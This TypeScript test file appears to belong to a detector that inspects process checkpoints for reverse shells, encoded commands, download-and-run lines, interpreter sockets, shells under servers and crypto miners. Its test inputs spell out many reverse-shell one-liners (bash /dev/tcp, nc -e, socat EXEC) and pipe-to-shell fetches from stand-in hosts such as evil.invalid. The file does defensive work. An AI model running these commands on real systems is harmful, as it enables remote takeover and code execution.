import { examine } from '..';
import { openChanged, openFixture } from '../../__testUtils__';
import { Checkpoint } from '../../report';
import {
  factsOf,
  find,
  severityOf,
  tell,
  withCommand,
} from '../__testUtils__/facts';

describe('shell-with-socket', () => {
  it('follows pipes and FIFOs to the socket', async () => {
    expect(tell(await factsOf('e-attacked'), 'shell-with-socket')).toEqual([
      'critical: the input of sh (7) comes from 127.0.0.1:37952 -> 127.0.0.1:4444 ESTABLISHED through cat (6), nc (8)',
      'critical: the output of sh (7) goes to 127.0.0.1:37952 -> 127.0.0.1:4444 ESTABLISHED through nc (8)',
    ]);
  });

  it('sees a socket that is the standard input itself', async () => {
    const facts = await factsOf('d-python-tcp');
    facts.report.processes[0].argv = ['bash', '-i'];
    const socket = facts.report.descriptors.find(
      d => d.target === `socket:${facts.report.connections[1].inode}`,
    )!;
    facts.report.descriptors[0].target = socket.target;
    expect(tell(facts, 'shell-with-socket')).toEqual([
      'critical: the input of python3 (1) comes from 10.78.1.16:8000 -> 10.77.0.1:47236 ESTABLISHED',
    ]);
  });

  it('follows unix sockets', async () => {
    const facts = await factsOf('d-python-tcp');
    facts.report.processes.push({
      ...facts.report.processes[0],
      pid: 9,
      argv: ['bash', '-i'],
    });
    const end = (
      pid: number,
      fd: number,
      inode: number,
      peer_inode: number,
    ) => {
      const family = 'UNIX';
      facts.report.connections.push({
        pid,
        fd,
        family,
        protocol: 'STREAM',
        state: 'ESTABLISHED',
        inode,
        peer_inode,
      });
      facts.report.descriptors.push({
        pid,
        fd,
        type: 'UNIXSK',
        target: `socket:${inode}`,
        deleted: false,
      });
    };
    end(9, 0, 70, 71);
    end(1, 8, 71, 70);
    expect(tell(facts, 'shell-with-socket')).toEqual([
      'low: the input of python3 (9) comes from 10.78.1.16:8000 -> 10.77.0.1:47236 ESTABLISHED through python3 (1)',
    ]);
  });

  it('lets a server read what a command prints', async () => {
    const facts = await factsOf('d-python-tcp');
    facts.report.processes.push({
      ...facts.report.processes[0],
      pid: 9,
      argv: ['sh', '-c', 'date'],
    });
    facts.report.descriptors.push(
      {
        pid: 9,
        fd: 1,
        type: 'PIPE',
        target: 'pipe:7',
        access: 'write',
        deleted: false,
      },
      {
        pid: 1,
        fd: 9,
        type: 'PIPE',
        target: 'pipe:7',
        access: 'read',
        deleted: false,
      },
    );
    expect(severityOf(find(facts, 'shell-with-socket'))).toEqual(['low']);
  });
});

describe('encoded-command', () => {
  const encode = (text: string) => Buffer.from(text).toString('base64');

  it('decodes what is encoded twice', async () => {
    const inner = encode('wget http://evil.invalid/a -O- | sh');
    const facts = await withCommand(
      'sh',
      '-c',
      `echo ${encode(`echo ${inner} | base64 -d`)}`,
    );
    expect(tell(facts, 'encoded-command')[1]).toMatch(
      /decodes to: wget http:\/\/evil\.invalid\/a -O- \| sh$/,
    );
    expect(severityOf(find(facts, 'download-and-run'))).toEqual(['high']);
  });

  it('does not show an encoded text that is no command', async () => {
    const facts = await withCommand('app', encode('admin:very secret words'));
    const [told] = tell(facts, 'encoded-command');
    expect(told).toMatch(/^low: .* decodes to a text of 23 characters$/);
  });

  it.each([
    '/usr/local/lib/python3/site-packages/example',
    'f2ca1bb6c7e907d06dafe4687e579fce76b37e4e93b7605022da52e6ccc26fd2',
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9',
    '--configuration-directory=/etc/application',
  ])('leaves %s alone', async argument => {
    expect(find(await withCommand('app', argument), 'encoded-command')).toEqual(
      [],
    );
  });
});

describe('download-and-run', () => {
  it.each([
    'curl -s http://x.invalid/i.sh | bash',
    'wget -qO- http://x.invalid | sudo python3 -',
    'bash -c "$(curl -fsSL http://x.invalid)"',
    'bash <(curl http://x.invalid)',
    'wget http://x.invalid/x -O /tmp/x; chmod +x /tmp/x; /tmp/x',
    `python3 -c 'exec(urllib.request.urlopen("http://x.invalid").read())'`,
  ])('sees %s', async command => {
    const facts = await withCommand('sh', '-c', command);
    expect(severityOf(find(facts, 'download-and-run'))).toEqual(['high']);
  });

  it.each([
    'curl -f http://127.0.0.1:8080/health',
    'wget --spider http://example.invalid',
    'curl http://example.invalid | jq .name',
    'curl -f http://db/ready || exit 1; sh /entrypoint.sh',
  ])('leaves %s alone', async command => {
    const facts = await withCommand('sh', '-c', command);
    expect(find(facts, 'download-and-run')).toEqual([]);
  });
});

describe('interpreter-socket', () => {
  it.each([
    `python3 -c 'import socket,os,pty;s=socket.socket()'`,
    `perl -e 'use Socket;$i="10.0.0.1"'`,
    `php -r '$s=fsockopen("10.0.0.1",4242);'`,
    `ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",4242)'`,
    'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
    'nc -e /bin/sh 10.0.0.1 4242',
    'socat TCP:10.0.0.1:4242 EXEC:sh',
  ])('sees %s', async command => {
    const facts = await withCommand('sh', '-c', command);
    expect(severityOf(find(facts, 'interpreter-socket'))).toEqual(['high']);
  });

  it.each([`python3 -c 'print(1)'`, 'nc -z db 5432', 'python3 -m http.server'])(
    'leaves %s alone',
    async command => {
      const facts = await withCommand('sh', '-c', command);
      expect(find(facts, 'interpreter-socket')).toEqual([]);
    },
  );
});

describe('shell-below-server', () => {
  it('rates a shell below redis higher than below any listener', async () => {
    const facts = await factsOf('b-redis');
    facts.report.processes.push({
      ...facts.report.processes[0],
      pid: 9,
      ppid: 1,
      command: 'sh',
      exe: '/bin/dash',
      argv: ['sh', '-c', 'id'],
    });
    expect(tell(facts, 'shell-below-server')).toEqual([
      'high: redis-server (1) has the shell sh (9) below it: sh -c id',
    ]);
  });
});

describe('cryptocurrency-miner', () => {
  it('sees a command line', async () => {
    const facts = await withCommand(
      'app',
      '-o',
      'stratum+tcp://pool.invalid:3333',
    );
    expect(severityOf(find(facts, 'cryptocurrency-miner'))).toEqual([
      'critical',
    ]);
  });

  it('searches the memory of a real checkpoint', async () => {
    const original = await openFixture('a-counter');
    const file = 'checkpoint/pages-1.img';
    const pages = original.archive.read(file, 1e6);
    pages.write('xmrig 6.21 pool stratum+tcp://pool.invalid:3333', 5000);
    const checkpoint = new Checkpoint(
      await openChanged('a-counter', { [file]: pages }),
    );
    const { findings } = await examine(checkpoint);
    const [finding] = findings.filter(f => f.id === 'cryptocurrency-miner');
    expect(finding.severity).toBe('high');
    expect(finding.evidence[0]).toMatchObject({
      pid: 1,
      address: expect.stringMatching(/^0x[0-9a-f]+$/),
    });
  });
});
